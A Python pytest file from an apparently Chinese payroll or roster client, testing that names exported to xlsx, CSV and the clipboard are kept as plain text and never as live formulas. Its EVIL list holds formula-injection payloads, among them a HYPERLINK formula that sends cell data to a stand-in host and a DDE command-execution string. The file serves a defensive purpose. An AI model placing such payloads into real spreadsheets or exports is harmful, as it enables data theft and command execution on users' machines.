"""A name that is a formula: wherever a table leaves the program, a spreadsheet must show it and not run it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.sheets.forms import HEADER, form
from unitclient.desktop.models.columns import ColumnSpec, Kind
from unitclient.desktop.models.list_table import ListTableModel
from unitclient.desktop.pages.roster.paste import cells_of
from unitclient.sheets import RefusedRow, csv_bytes, read_sheet, write_error_workbook, write_table
from unitclient.sheets.template import write_template
from unitclient.sheets.xlsx_out import XlsxWriter

ROOT = Path(__file__).resolve().parents[2]
EVIL = (
    '=HYPERLINK("http://evil.invalid/"&A1,"王示范")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
)
ID = "51000019900101003X"
PERSON = {"id_number": ID, "start_month": "2026-07", "wage": 650_000}


def table(path: Path, text: str) -> None:
    write_table(path, text, [text, "b"], [[text, 1]])


def sheet(path: Path, text: str) -> None:
    """What the export of a unit's data and the sample are written with."""
    with XlsxWriter(path) as book:
        book.sheet(text, [[text]])


def template(path: Path, text: str) -> None:
    write_template(form(), path, [{**PERSON, "name": text}])


def errors(path: Path, text: str) -> None:
    """The error workbook of a sheet in which somebody typed it."""
    source = path.with_suffix(".in.xlsx")
    write_table(source, "名单", list(HEADER), [["1", text, ID, "2026-07", 6500]])
    read = read_sheet(source, form())
    rows = [RefusedRow(row.number, [], row) for row in read.rows]
    assert rows
    write_error_workbook(source, read, rows, path)


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("write", [table, sheet, template, errors])
def test_a_workbook_has_no_formula_but_the_text(tmp_path: Path, write: Callable[[Path, str], None], text: str) -> None:
    path = tmp_path / "a.xlsx"
    write(path, text)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<f[ >/]", archive.read(name)), name
            assert not name.startswith(("xl/externalLinks", "xl/connections", "customXml"))
    book = load_workbook(path)
    cells = [cell for each in book.worksheets for row in each.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    held = [cell for cell in cells if isinstance(cell.value, str) and text.strip() in cell.value]
    assert held
    assert all(cell.data_type in ("s", "inlineStr") for cell in held)


@pytest.mark.parametrize("text", EVIL)
def test_a_text_table_quotes_it(text: str) -> None:
    told = csv_bytes(["姓名"], [[text]]).decode("utf-8-sig")
    ((_,), (cell,)) = csv.reader(io.StringIO(told, newline=""))
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", EVIL)
def test_the_clipboard_quotes_it_and_pasting_here_takes_it_back(text: str) -> None:
    columns = (ColumnSpec("name", "d-roster-name"), ColumnSpec("left", "d-roster-name", Kind.MONEY))
    model = ListTableModel(columns)
    model.set_rows([{"id": 1, "name": text, "left": -12_345}])
    copied = f"{model.clip(0, 0)}\t{model.clip(0, 1)}"
    assert copied == f"'{text.strip()}\t-123.45"
    assert cells_of(copied) == [[text.strip(), "-123.45"]]


def test_there_is_no_other_way_out() -> None:
    """Whoever writes a table in a way of their own has to come here."""
    own = {"unitclient/sheets/table.py", "unitclient/sheets/template.py", "unitclient/sheets/xlsx_out.py"}
    writing = re.compile(r"csv\.(Dict)?[wW]riter\(|openpyxl import .*Workbook|<sheetData>|setText\(.*\\t")
    found = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "unitclient").rglob("*.py")
        if writing.search(path.read_text("utf-8"))
    }
    assert found == own
